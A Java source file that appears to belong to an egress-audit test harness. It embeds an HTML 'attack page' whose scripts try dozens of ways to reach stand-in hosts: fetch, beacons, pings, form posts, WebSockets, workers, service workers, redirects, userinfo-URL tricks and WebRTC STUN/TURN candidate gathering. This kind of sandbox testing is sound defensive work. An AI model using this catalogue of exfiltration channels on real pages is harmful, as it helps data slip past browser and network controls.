package dev.tandem.audit.egress;

/// What the attacker's server serves. `{{port}}` is the canaries' port.
final class AttackPage {

    private AttackPage() {}

    static final String HTML =
            """
            <!doctype html>
            <title>Attack</title>
            <link rel=prefetch href="http://prefetch.example:{{port}}/">
            <link rel=preload as=image href="http://preload.example:{{port}}/">
            <link rel=modulepreload href="http://module.example:{{port}}/">
            <link rel=stylesheet href="http://style.example:{{port}}/">
            <link rel=dns-prefetch href="//dnsprefetch.example:{{port}}/">
            <link rel=preconnect href="http://preconnect.example:{{port}}/">
            <script type=speculationrules>
              {"prefetch": [{"urls": ["https://speculation.example:{{port}}/"], "eagerness": "immediate"}]}
            </script>
            <script>
              window.candidates = [];
              const url = (host, path) => 'http://' + host + ':{{port}}/' + (path ?? '');
              const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
              const attempt = work => { try { work()?.catch?.(() => {}); } catch (refused) { console.log(refused); } };
              const post = {method: 'POST', mode: 'no-cors', body: 'x'};

              const attacks = [
                () => fetch(url('fetch.example'), {mode: 'no-cors'}),
                () => fetch(url('post.example'), post),
                () => { const x = new XMLHttpRequest(); x.open('GET', url('xhr.example')); x.send(); },
                () => add('img', {src: url('img.example')}),
                () => add('script', {src: url('script.example')}),
                () => add('iframe', {src: url('frame.example')}),
                () => add('object', {data: url('object.example'), type: 'text/html'}),
                () => add('embed', {src: url('embed.example'), type: 'text/html'}),
                () => add('video', {src: url('video.example'), autoplay: true}),
                () => add('iframe', {src: '/refresh'}),
                () => add('iframe', {src: '/location'}),
                () => add('img', {src: '/redirect'}),
                () => fetch('/redirect307', post),
                () => navigator.sendBeacon(url('beacon.example'), 'x'),
                () => { add('a', {href: '#', ping: url('ping.example'), id: 'ping'}); document.getElementById('ping').click(); },
                () => { add('iframe', {name: 'sink'});
                        add('form', {action: url('form.example'), method: 'post', target: 'sink', id: 'form'});
                        document.getElementById('form').submit(); },
                () => new EventSource(url('events.example')),
                () => new Worker('/worker.js'),
                () => new WebSocket('ws://websocket.example:{{port}}/'),
                () => new WebSocket('wss://securesocket.example:{{port}}/'),
                () => fetch('https://secure.example:{{port}}/', {mode: 'no-cors'}),
                () => fetch(url('mixed.example'), {mode: 'no-cors'}),
                () => fetch(url('rebind.example'), {mode: 'no-cors'}),
                () => add('img', {src: 'http://{{page}}@userinfo.example:{{port}}/'}),
                () => add('img', {src: 'http://userinfo.example:{{port}}\\\\@{{page}}/'}),
                () => window.open(url('popup.example')),
                () => navigator.serviceWorker.register('/service.js'),
              ];
              const stun = async () => {
                const peer = new RTCPeerConnection({iceServers: [
                  {urls: ['stun:127.0.0.1:{{port}}', 'stun:stun.example:{{port}}']},
                  {urls: ['turn:127.0.0.1:{{port}}?transport=tcp', 'turn:turn.example:{{port}}?transport=udp'],
                   username: 'u', credential: 'c'}]});
                peer.onicecandidate = event => { if (event.candidate?.candidate) candidates.push(event.candidate.candidate); };
                const done = new Promise(resolve => {
                  peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
                  setTimeout(resolve, 2000);
                });
                peer.createDataChannel('x');
                await peer.setLocalDescription(await peer.createOffer());
                await done;
                window.gathered = true;
              };
              addEventListener('load', () => {
                attacks.forEach(attempt);
                for (const host of {{notations}}) attempt(() => add('img', {src: url(host)}));
                stun().catch(() => { window.gathered = true; });
              });
            </script>
            <body></body>
            """;

    static final String REFRESH =
            """
            <!doctype html><meta http-equiv=refresh content="0; url=http://refresh.example:{{port}}/">
            """;

    static final String LOCATION =
            """
            <!doctype html><script>location = 'http://location.example:{{port}}/'</script>
            """;

    static final String WORKER =
            """
            fetch('http://worker.example:{{port}}/', {mode: 'no-cors'}).catch(() => {});
            importScripts('http://imports.example:{{port}}/');
            """;

    static final String SERVICE_WORKER =
            """
            fetch('http://serviceworker.example:{{port}}/', {mode: 'no-cors'}).catch(() => {});
            """;
}
